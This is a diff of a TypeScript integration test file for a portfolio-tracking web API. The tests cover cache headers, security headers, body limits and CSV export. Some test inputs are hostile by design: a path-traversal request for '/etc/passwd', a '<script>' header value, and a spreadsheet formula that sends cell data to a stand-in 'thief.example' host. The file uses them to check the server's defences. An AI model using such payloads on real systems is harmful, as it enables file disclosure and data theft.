@@ -5,7 +5,8 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { readConfig } from '@evenkeel/platform/config';
 import { createLogger } from '@evenkeel/platform/logging';
-import { signUp } from '../../../test/support/api';
+import type { Problem } from '@evenkeel/contracts/shared/problem';
+import { ApiClient, signUp } from '../../../test/support/api';
 import { CASH_IN, personWithPortfolio } from './person';
 import { startApi } from '../src/start-api';
 import { startTestApi, type TestApi } from './running-api';
@@ -27,25 +28,42 @@ afterAll(async () => {
   rmSync(webDir, { recursive: true });
 });
 
-test.each(['/', '/transactions', '/portfolio/7/rebalance?tab=actions'])('%s is the web app, never kept by a cache', async (path) => {
-  const answer = await fetch(api.baseUrl + path);
-  expect({ status: answer.status, cache: answer.headers.get('cache-control'), body: await answer.text() }).toEqual({ status: 200, cache: 'no-store', body: INDEX });
-});
+test.each(['/', '/transactions', '/portfolio/7/rebalance?tab=actions'])(
+  '%s is the web app, never kept by a cache',
+  async (path) => {
+    const answer = await fetch(api.baseUrl + path);
+    expect({
+      status: answer.status,
+      cache: answer.headers.get('cache-control'),
+      body: await answer.text(),
+    }).toEqual({ status: 200, cache: 'no-store', body: INDEX });
+  },
+);
 
 test('hashed files are kept for ever, a missing one is not the web app', async () => {
   const asset = await fetch(`${api.baseUrl}/static/app-1a2b.js`);
-  expect([asset.status, asset.headers.get('cache-control'), await asset.text()]).toEqual([200, 'public, max-age=31536000, immutable', '"app"']);
+  expect([asset.status, asset.headers.get('cache-control'), await asset.text()]).toEqual([
+    200,
+    'public, max-age=31536000, immutable',
+    '"app"',
+  ]);
   expect((await fetch(`${api.baseUrl}/theme.js`)).status).toBe(200);
   expect((await fetch(`${api.baseUrl}/static/gone.js`)).status).toBe(404);
-  expect((await fetch(`${api.baseUrl}/..%2f..%2fetc/passwd`)).headers.get('content-type')).toMatch(/html|json/);
+  expect((await fetch(`${api.baseUrl}/..%2f..%2fetc/passwd`)).headers.get('content-type')).toMatch(
+    /html|json/,
+  );
 });
 
 test('pages may run our own scripts only', async () => {
   const { headers } = await fetch(api.baseUrl);
   expect(headers.get('content-security-policy')).toBe(
-    "default-src 'self';script-src 'self';connect-src 'self' ws: wss:;img-src 'self' data: blob:;style-src 'self' 'unsafe-inline';font-src 'self';object-src 'none';base-uri 'self';form-action 'self';frame-ancestors 'none'",
+    "default-src 'self';script-src 'self';connect-src 'self';img-src 'self' data: blob:;style-src 'self' 'unsafe-inline';font-src 'self';object-src 'none';base-uri 'self';form-action 'self';frame-ancestors 'none'",
   );
-  expect([headers.get('x-content-type-options'), headers.get('x-powered-by'), headers.get('strict-transport-security')]).toEqual(['nosniff', null, null]);
+  expect([
+    headers.get('x-content-type-options'),
+    headers.get('x-powered-by'),
+    headers.get('strict-transport-security'),
+  ]).toEqual(['nosniff', null, null]);
 });
 
 test('an idle connection is kept for longer than proxies keep theirs', async () => {
@@ -53,10 +71,22 @@ test('an idle connection is kept for longer than proxies keep theirs', async () 
 });
 
 test('an api that ends lets a request come to its end, and does not wait for its connection', async () => {
-  const env = { ...process.env, DATABASE_URL: api.databaseUrl, DATA_DIR: api.dataDir, REDIS_URL: '', EVENTSTORE_URL: '', PORT: '0', HOST: '127.0.0.1' };
+  const env = {
+    ...process.env,
+    DATABASE_URL: api.databaseUrl,
+    DATA_DIR: api.dataDir,
+    REDIS_URL: '',
+    EVENTSTORE_URL: '',
+    PORT: '0',
+    HOST: '127.0.0.1',
+  };
   const ending = await startApi(readConfig(env), createLogger({ level: 'error', part: 'api' }));
   const agent = new Agent({ keepAlive: true });
-  const asked = request(`${ending.url}/api/auth/signin`, { method: 'POST', agent, headers: { 'content-type': 'application/json', 'content-length': '2', expect: '100-continue' } });
+  const asked = request(`${ending.url}/api/auth/signin`, {
+    method: 'POST',
+    agent,
+    headers: { 'content-type': 'application/json', 'content-length': '2', expect: '100-continue' },
+  });
   asked.flushHeaders();
   await once(asked, 'continue');
   const closing = ending.close();
@@ -70,29 +100,52 @@ test('an api that ends lets a request come to its end, and does not wait for its
 
 test('health is told without a token', async () => {
   expect(await (await fetch(`${api.baseUrl}/health/live`)).json()).toEqual({ status: 'live' });
-  expect(await (await fetch(`${api.baseUrl}/health/ready`)).json()).toEqual({ status: 'ready' });
+  const ready = await fetch(`${api.baseUrl}/health/ready`);
+  expect({ status: ready.status, body: await ready.json() }).toMatchObject({
+    status: 200,
+    body: { status: 'ready' },
+  });
 });
 
 test('an unknown call is a problem, not a page', async () => {
   const { api: client } = await signUp(api.baseUrl);
   const { status, body } = await client.get('/api/unknown');
-  expect({ status, body }).toMatchObject({ status: 404, body: { statusCode: 404, error: 'Not Found' } });
+  expect({ status, body }).toMatchObject({
+    status: 404,
+    body: { statusCode: 404, error: 'Not Found' },
+  });
 });
 
 test('a request keeps a harmless name and gets one otherwise', async () => {
-  const named = await fetch(`${api.baseUrl}/health/live`, { headers: { 'x-request-id': 'order-12345' } });
+  const named = await fetch(`${api.baseUrl}/health/live`, {
+    headers: { 'x-request-id': 'order-12345' },
+  });
   expect(named.headers.get('x-request-id')).toBe('order-12345');
-  const unnamed = await fetch(`${api.baseUrl}/health/live`, { headers: { 'x-request-id': '<script>' } });
+  const unnamed = await fetch(`${api.baseUrl}/health/live`, {
+    headers: { 'x-request-id': '<script>' },
+  });
   expect(unnamed.headers.get('x-request-id')).toMatch(/^[0-9a-f-]{36}$/);
 });
 
 test('bodies: 1 MB everywhere, 64 MB where files are imported, and strangers cannot send them', async () => {
   const { api: client } = await signUp(api.baseUrl);
   const big = { name: 'x'.repeat(1_200_000) };
-  expect(await client.post('/api/portfolios', big)).toMatchObject({ status: 413, body: { statusCode: 413, error: 'Payload Too Large' } });
-  const file = { fileName: 'a.csv', format: 'csv', content: `date,ticker,close\n${'2024-01-02,VTI,-1\n'.repeat(100_000)}`, dryRun: true };
+  expect(await client.post('/api/portfolios', big)).toMatchObject({
+    status: 413,
+    body: { statusCode: 413, error: 'Payload Too Large' },
+  });
+  const file = {
+    fileName: 'a.csv',
+    format: 'csv',
+    content: `date,ticker,close\n${'2024-01-02,VTI,-1\n'.repeat(100_000)}`,
+    dryRun: true,
+  };
   expect((await client.post('/api/quotes/imports', file)).status).toBe(422);
-  const stranger = await fetch(`${api.baseUrl}/api/quotes/imports`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{}' });
+  const stranger = await fetch(`${api.baseUrl}/api/quotes/imports`, {
+    method: 'POST',
+    headers: { 'content-type': 'application/json' },
+    body: '{}',
+  });
   expect(stranger.status).toBe(401);
 });
 
@@ -100,15 +153,75 @@ test('lists and what is wrong in a file are compressed, the answer to a write is
   const person = await personWithPortfolio(api.baseUrl);
   const { id } = await person.addAccount();
   const headersOf = (path: string) => person.api.get(path).then(({ headers }) => headers);
-  const written = await person.record({ ...CASH_IN(id, '10'), transactionNotes: 'long '.repeat(300).trim() });
-  const wrong = await person.import(`account,type,datetime,ticker,quantity,price,fee,amount,notes\n${'Broker,buy,never,VTI,1,1,0,1,\n'.repeat(100)}`);
+  const written = await person.record({
+    ...CASH_IN(id, '10'),
+    transactionNotes: 'long '.repeat(300).trim(),
+  });
+  const wrong = await person.import(
+    `account,type,datetime,ticker,quantity,price,fee,amount,notes\n${'Broker,buy,never,VTI,1,1,0,1,\n'.repeat(100)}`,
+  );
   const listed = await headersOf(person.path('/transactions'));
   expect([written, wrong].map(({ status }) => status)).toEqual([201, 422]);
-  expect([written.headers, wrong.headers, listed].map((headers) => headers.get('content-encoding') !== null)).toEqual([false, true, true]);
+  expect(
+    [written.headers, wrong.headers, listed].map(
+      (headers) => headers.get('content-encoding') !== null,
+    ),
+  ).toEqual([false, true, true]);
 });
 
 test('what is not JSON is refused as such', async () => {
   const { api: client } = await signUp(api.baseUrl);
-  const answer = await fetch(`${api.baseUrl}/api/portfolios`, { method: 'POST', headers: { authorization: `Bearer ${client.token}`, 'content-type': 'application/json' }, body: '{"name":' });
-  expect({ status: answer.status, body: await answer.json() }).toEqual({ status: 400, body: { statusCode: 400, error: 'Bad Request', message: 'The body is not valid JSON' } });
+  const answer = await fetch(`${api.baseUrl}/api/portfolios`, {
+    method: 'POST',
+    headers: { authorization: `Bearer ${client.token}`, 'content-type': 'application/json' },
+    body: '{"name":',
+  });
+  expect({ status: answer.status, body: await answer.json() }).toEqual({
+    status: 400,
+    body: { statusCode: 400, error: 'Bad Request', message: 'The body is not valid JSON' },
+  });
+});
+
+test('what the api says is kept by no cache, errors included', async () => {
+  const { api: client } = await signUp(api.baseUrl);
+  const answers = [
+    await client.get('/api/portfolios'),
+    await client.post('/api/portfolios', {}),
+    await client.get('/api/unknown'),
+    await new ApiClient(api.baseUrl).get('/api/auth/config'),
+    await new ApiClient(api.baseUrl).get('/api/portfolios'),
+  ];
+  expect(answers.map(({ status, headers }) => [status, headers.get('cache-control')])).toEqual(
+    [200, 400, 404, 200, 401].map((status) => [status, 'no-store']),
+  );
+});
+
+test('a parameter that a route does not know is refused at every address', async () => {
+  const { api: client } = await signUp(api.baseUrl);
+  const routes = api.routes.filter((route) => route.includes(' /api/'));
+  const passedOver = [];
+  for (const route of routes) {
+    const [method = '', pattern = ''] = route.split(' ');
+    const path = pattern.replace(/:\w+/g, crypto.randomUUID());
+    const { status, body } = await client.call<Problem>(method, `${path}?asOf=2024-01-31`);
+    if (status !== 400 || body.fields?.[0]?.field !== 'asOf') passedOver.push(route);
+  }
+  expect(routes.length).toBeGreaterThan(50);
+  expect(passedOver).toEqual([]);
+});
+
+test('a note that a spreadsheet would run is exported as text, and imported as it was', async () => {
+  const [person, other] = [
+    await personWithPortfolio(api.baseUrl),
+    await personWithPortfolio(api.baseUrl),
+  ];
+  const { id } = await person.addAccount();
+  await other.addAccount();
+  const transactionNotes = '=HYPERLINK("https://thief.example/"&A1)';
+  await person.record({ ...CASH_IN(id, '10'), transactionNotes });
+  const exported = await person.api.get<string>(person.path('/transactions/export'));
+  expect(exported.body).toContain(`"'=HYPERLINK`);
+  expect((await other.import(exported.body)).body).toMatchObject({ recorded: 1, errors: [] });
+  const { body } = await other.api.get<object[]>(other.path('/transactions'));
+  expect(body).toMatchObject([{ transactionNotes }]);
 });
